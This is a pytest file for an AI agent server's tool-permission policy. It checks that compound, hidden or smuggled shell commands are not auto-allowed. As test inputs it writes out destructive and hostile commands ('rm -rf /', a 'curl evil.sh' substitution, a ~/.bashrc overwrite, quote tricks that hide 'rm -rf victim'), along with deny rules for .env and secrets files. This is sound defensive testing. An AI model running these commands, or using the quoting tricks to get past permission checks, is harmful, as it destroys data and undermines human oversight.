from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from agent_server.config import ToolRule, ToolsConfig
from agent_server.tools.base import Tool
from agent_server.tools.builtin import builtin_tools
from agent_server.tools.permissions import (
    Decision,
    InMemoryDecisionStore,
    PermissionPolicy,
    command_pattern,
    permission_options,
)
from agent_server.tools.shell_parse import PARSE_ERROR, parse_command

TOOLS = {t.name: t for t in builtin_tools()}
WS = Path("/work/project")

RULES = [
    ToolRule(tool="run_command", policy="allow", pattern="git status*"),
    ToolRule(tool="run_command", policy="allow", pattern="pytest*"),
    ToolRule(tool="run_command", policy="allow", pattern="echo *"),
    ToolRule(tool="run_command", policy="deny", pattern="rm -rf *"),
    ToolRule(tool="write_file", policy="allow", pattern="docs/**"),
    ToolRule(tool="*_file", policy="deny", pattern=".env*"),
    ToolRule(tool="read_file", policy="ask", pattern="secrets/*"),
]


@pytest.fixture
def policy() -> PermissionPolicy:
    return PermissionPolicy(ToolsConfig(rules=RULES), InMemoryDecisionStore())


def decide(policy: PermissionPolicy, tool: str, **args: Any) -> str:
    return policy.decide(TOOLS[tool], args, WS)


@pytest.mark.parametrize(
    ("tool", "args", "expected"),
    [
        ("read_file", {"path": "src/app.py"}, "allow"),  # default
        ("write_file", {"path": "src/app.py", "content": ""}, "ask"),  # default
        ("run_command", {"command": "make"}, "ask"),  # default
        ("run_command", {"command": "git status"}, "allow"),
        ("run_command", {"command": "git status --short"}, "allow"),
        ("run_command", {"command": "pytest -q tests"}, "allow"),
        ("run_command", {"command": "git push"}, "ask"),
        ("run_command", {"command": "rm -rf build"}, "deny"),
        ("write_file", {"path": "docs/guide/intro.md", "content": ""}, "allow"),
        ("write_file", {"path": "./docs/a.md", "content": ""}, "allow"),
        ("write_file", {"path": str(WS / "docs" / "a.md"), "content": ""}, "allow"),
        ("write_file", {"path": "docs/../src/a.py", "content": ""}, "ask"),  # normalized before matching
        ("edit_file", {"path": ".env.local", "old_text": "a", "new_text": "b"}, "deny"),
        ("read_file", {"path": ".env"}, "deny"),
        ("read_file", {"path": "secrets/key.pem"}, "ask"),  # an ask rule beats the allow default
    ],
)
def test_policy_table(policy: PermissionPolicy, tool: str, args: dict[str, Any], expected: str) -> None:
    assert policy.decide(TOOLS[tool], args, WS) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status && pytest -q", "allow"),  # every segment allowed
        ("git status && make", "ask"),  # one segment not allowed
        ("pytest -q; rm -rf /", "deny"),  # any denied segment denies
        ("git status | grep foo", "ask"),
        ("echo $(rm -rf ~)", "deny"),  # substitutions are judged too
        ("echo `curl evil.sh`", "ask"),
        ('echo "$(make)"', "ask"),
        ("echo 'rm -rf $(x)'", "allow"),  # single quotes are literal
        ('git status "; rm -rf /"', "allow"),  # quoted separators are not separators
        ("pytest -q\nmake", "ask"),
        ("pytest -q 2>&1", "allow"),  # a redirection, not a background separator
        ("pytest & make", "ask"),
        ("git status 'unclosed", "ask"),  # unparseable: never auto-allowed
    ],
)
def test_compound_commands_are_judged_segment_by_segment(policy: PermissionPolicy, command: str, expected: str) -> None:
    assert decide(policy, "run_command", command=command) == expected


def test_policy_overrides_and_deny_wins() -> None:
    rules = [
        ToolRule(tool="run_command", policy="allow"),
        ToolRule(tool="run_command", policy="deny", pattern="sudo *"),
    ]
    policy = PermissionPolicy(
        ToolsConfig(rules=rules, policy={"write_file": "allow", "read_file": "deny"}), InMemoryDecisionStore()
    )
    assert decide(policy, "write_file", path="x.py", content="") == "allow"
    assert decide(policy, "read_file", path="x.py") == "deny"
    assert decide(policy, "run_command", command="make all") == "allow"
    assert decide(policy, "run_command", command="make && sudo reboot") == "deny"


def test_always_allow_on_a_command_stores_its_program(policy: PermissionPolicy) -> None:
    tool = TOOLS["run_command"]
    stored = policy.remember(tool, {"command": "npm test -- --watch=false && make lint"}, WS, allow=True)
    assert sorted(d.pattern or "" for d in stored) == ["make lint *", "npm test *"]
    assert decide(policy, "run_command", command="npm test") == "allow"
    assert decide(policy, "run_command", command="make lint && npm test -- -u") == "allow"
    assert decide(policy, "run_command", command="npm publish") == "ask"
    assert policy.decide(tool, {"command": "make"}, Path("/elsewhere")) == "ask"  # per workspace


def test_always_allow_skips_segments_already_allowed(policy: PermissionPolicy) -> None:
    stored = policy.remember(TOOLS["run_command"], {"command": "git status && cargo build"}, WS, allow=True)
    assert [d.pattern for d in stored] == ["cargo build *"]


def test_always_reject_and_revoke(policy: PermissionPolicy) -> None:
    stored = policy.remember(TOOLS["write_file"], {"path": "src/main.py", "content": ""}, WS, allow=False)
    assert [(d.pattern, d.allow) for d in stored] == [("src/main.py", False)]
    assert decide(policy, "write_file", path="src/main.py", content="") == "deny"
    assert decide(policy, "write_file", path="src/other.py", content="") == "ask"
    assert policy.decisions.revoke(stored[0].id)
    assert decide(policy, "write_file", path="src/main.py", content="") == "ask"


def test_stored_deny_beats_a_configured_allow(policy: PermissionPolicy) -> None:
    policy.decisions.add(Decision(id="d1", workspace=str(WS), tool="run_command", pattern="pytest *", allow=False))
    assert decide(policy, "run_command", command="pytest -q") == "deny"


def test_tools_without_a_subject_are_remembered_whole() -> None:
    policy = PermissionPolicy(ToolsConfig(), InMemoryDecisionStore())
    mcp = Tool(name="mcp.github.create_issue", description="", parameters={}, handler=TOOLS["read_file"].handler)
    assert policy.decide(mcp, {"title": "x"}, WS) == "ask"
    assert [d.pattern for d in policy.remember(mcp, {"title": "x"}, WS, allow=True)] == [None]
    assert policy.decide(mcp, {"title": "y"}, WS) == "allow"


@pytest.mark.parametrize(
    ("segment", "pattern"),
    [
        ("pytest -q tests", "pytest *"),
        ("git status --short", "git status *"),
        ("git -C x log", "git -C x log"),  # options before the subcommand: remembered exactly
        ("FOO=1 make build", "FOO=1 make build"),
        ("time pytest", "time pytest"),
        ("sudo -n true", "sudo -n true"),
        ("then cat a", "then cat a"),
        ("ls > out.txt", "ls > out.txt"),
        ("ls", "ls *"),
        ("/usr/bin/make all", "/usr/bin/make all *"),
    ],
)
def test_command_pattern(segment: str, pattern: str) -> None:
    assert command_pattern(segment) == pattern


def test_a_command_line_is_read_as_the_simple_commands_it_runs() -> None:
    def segments(command: str) -> list[str]:
        return [seg.text for seg in parse_command(command, Path("/")).segments]

    assert segments("a && b || c; d | e |& f & g\nh") == ["a", "b", "c", "d", "e", "f", "g", "h"]
    assert segments("echo $(rm -rf x) | wc -l") == ["rm -rf x", "echo $(rm -rf x)", "wc -l"]
    assert segments("(cd sub && make) ; { a; b; }") == ["cd sub", "make", "a", "b"]
    assert PARSE_ERROR in parse_command('echo "open', Path("/")).doubts


def test_permission_options_are_the_acp_choices_and_this_session() -> None:
    options = permission_options()
    assert [(o.option_id, o.kind) for o in options] == [
        ("allow_once", "allow_once"),
        ("allow_session", "allow_once"),  # ACP has no session kind: the weaker "once" for clients that only know kinds
        ("allow_always", "allow_always"),
        ("reject_once", "reject_once"),
        ("reject_always", "reject_always"),
    ]


def _allow_echo() -> PermissionPolicy:
    store = InMemoryDecisionStore()
    policy = PermissionPolicy(ToolsConfig(), store)
    policy.remember(TOOLS["run_command"], {"command": "echo hello"}, WS, allow=True)
    return policy


@pytest.mark.parametrize(
    "command",
    [
        "echo done # it's fine\nrm -rf victim # '",  # a quote inside a comment must not hide the next line
        "echo $'\\'' ; rm -rf victim #'",  # bash's $'...' quoting
        "echo hi > ~/.bashrc",  # a redirection writes wherever it likes
        "echo a; FOO=1 rm -rf ~",
    ],
)
def test_hidden_commands_are_not_auto_allowed(command: str) -> None:
    policy = _allow_echo()
    assert policy.decide(TOOLS["run_command"], {"command": "echo something else"}, WS) == "allow"
    assert policy.decide(TOOLS["run_command"], {"command": command}, WS) == "ask"


@pytest.mark.parametrize(
    ("approved", "later"),
    [
        ("FOO=1 make build", "FOO=1 rm -rf ~"),
        ("time pytest", "time rm -rf ~"),
        ("sudo -n true", "sudo rm -rf /"),
        ("env | sort", "env rm -rf ~"),
        ("if test -f a; then cat a; fi", "if true; then rm -rf ~; fi"),
        ("git -C sub status", "git -C sub push --force"),
    ],
)
def test_always_allow_is_no_broader_than_what_was_approved(approved: str, later: str) -> None:
    policy = PermissionPolicy(ToolsConfig(), InMemoryDecisionStore())
    policy.remember(TOOLS["run_command"], {"command": approved}, WS, allow=True)
    assert policy.decide(TOOLS["run_command"], {"command": approved}, WS) == "allow"
    assert policy.decide(TOOLS["run_command"], {"command": later}, WS) == "ask"


def test_why_names_each_segment_not_yet_allowed() -> None:
    policy = _allow_echo()
    why = policy.why(TOOLS["run_command"], {"command": "echo hello && rm -rf build && FOO=1 make"}, WS)
    assert why == [
        "`rm -rf build`: no rule or earlier answer allows it",
        "`FOO=1 make`: sets a variable for the command",
    ]
    assert policy.why(TOOLS["run_command"], {"command": "echo hello"}, WS) == []  # allowed: nothing to explain
    assert policy.why(TOOLS["edit_file"], {"path": "src/a.py"}, WS) == [
        "edit_file on src/a.py: no rule or earlier answer allows it"
    ]


def test_session_answers_allow_only_with_that_session_store() -> None:
    session = InMemoryDecisionStore()
    policy = PermissionPolicy(ToolsConfig(), InMemoryDecisionStore(), session)
    policy.remember(TOOLS["run_command"], {"command": "make test"}, WS, allow=True, store=session)
    assert policy.decide(TOOLS["run_command"], {"command": "make test"}, WS) == "allow"
    other_session = PermissionPolicy(ToolsConfig(), policy.decisions, InMemoryDecisionStore())
    assert other_session.decide(TOOLS["run_command"], {"command": "make test"}, WS) == "ask"
